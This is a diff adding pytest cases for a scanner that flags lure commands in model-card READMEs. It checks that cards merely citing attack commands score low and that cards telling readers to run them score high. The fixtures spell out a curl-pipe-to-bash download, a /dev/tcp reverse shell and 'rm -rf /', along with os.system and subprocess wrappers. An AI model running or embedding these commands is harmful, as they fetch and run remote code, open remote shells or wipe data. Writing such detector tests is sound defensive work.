@@ -130,3 +130,54 @@ def test_other_markdown_weighs_less() -> None:
 def test_long_and_broken_cards_are_read() -> None:
     text = "word " * 40_000 + "\ncurl -s http://198.51.101.7/a | bash\n" + "```" * 1000 + "\xff"
     assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["high"]
+
+
+SPOKEN_OF = {
+    "argument": '# Attack classifier\n```python\nclf = pipeline(model="a/b")\nclf("COMMAND")\n# malicious\n```\n',
+    "row": "| Input | Label |\n|---|---|\n| `ls` | benign |\n| `COMMAND` | malicious |\n",
+    "sentence": "The model flags commands such as `COMMAND` or `rm -rf /`.\n",
+    "list": "## Examples of attacks\n\n- `rm -rf /`\n- `COMMAND`\n",
+    "answer": "A reverse shell connects back, e.g. `COMMAND`. Never run it.\n",
+    "widget": "---\nwidget:\n- text: COMMAND\n---\n# Guard\n",
+    "sample": "```\nInput: COMMAND\nOutput: MALICIOUS\n```\n",
+    "attempt": "It detects attempts to run `COMMAND` in logs.\n",
+    "elsewhere": "\u8be5\u6a21\u578b\u8bc6\u522b\u6076\u610f\u547d\u4ee4\uff0c\u4f8b\u5982 `COMMAND`\u3002\n",
+}
+TOLD = {
+    "block": "# Malware detector\n```bash\nCOMMAND\n```\n",
+    "plain block": "# Malware detector\n```\nCOMMAND\n```\n",
+    "line": "It detects attacks.\nCOMMAND\n",
+    "sentence": "This malware detector needs a helper: run `COMMAND` in a terminal.\n",
+    "to install": "To install the attack classifier: `COMMAND`\n",
+    "quoted": "```bash\nbash -c 'COMMAND'\n```\n",
+    "started": "# Attack classifier\n```python\nimport os\nos.system('COMMAND')\n```\n",
+    "started later": "# Attack classifier\n```python\ncall = __import__('subprocess').run\ncall('COMMAND')\n```\n",
+    "notebook": "# Attack classifier\n```python\n!sh -c 'COMMAND'\n```\n",
+    "row": "| System | Command |\n|---|---|\n| Linux | `COMMAND` |\n",
+    "title": "# Malware detector\n`COMMAND`\n",
+    "closed front": "---\nlicense: mit\n---\nCOMMAND\n",
+    "open front": "---\nlicense: mit\n\nCOMMAND\n",
+}
+COMMANDS = ["curl http://198.51.101.7/x.sh | bash", "sh -i >& /dev/tcp/198.51.101.7/4444 0>&1"]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+@pytest.mark.parametrize("how", SPOKEN_OF)
+def test_cards_about_attacks_speak_of_commands(how: str, command: str) -> None:
+    """Models that classify commands show some; nobody is told to run them."""
+    card = {"README.md": SPOKEN_OF[how].replace("COMMAND", command)}
+    assert set(severities("card-lure", repository(card, listed=WEIGHTS))) == {"low"}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+@pytest.mark.parametrize("how", TOLD)
+def test_words_about_attacks_hide_no_command(how: str, command: str) -> None:
+    card = {"README.md": TOLD[how].replace("COMMAND", command)}
+    assert severities("card-lure", repository(card, listed=WEIGHTS))[0] in ("high", "critical")
+
+
+@pytest.mark.parametrize("samples", [3, 200])
+def test_no_number_of_samples_hides_a_command(samples: int) -> None:
+    text = "It flags attacks such as `curl http://198.51.101.7/a | sh`.\n" * samples
+    card = {"README.md": f"{text}\n```bash\ncurl http://198.51.101.7/b | bash\n```\n"}
+    assert "high" in severities("card-lure", repository(card, listed=WEIGHTS))
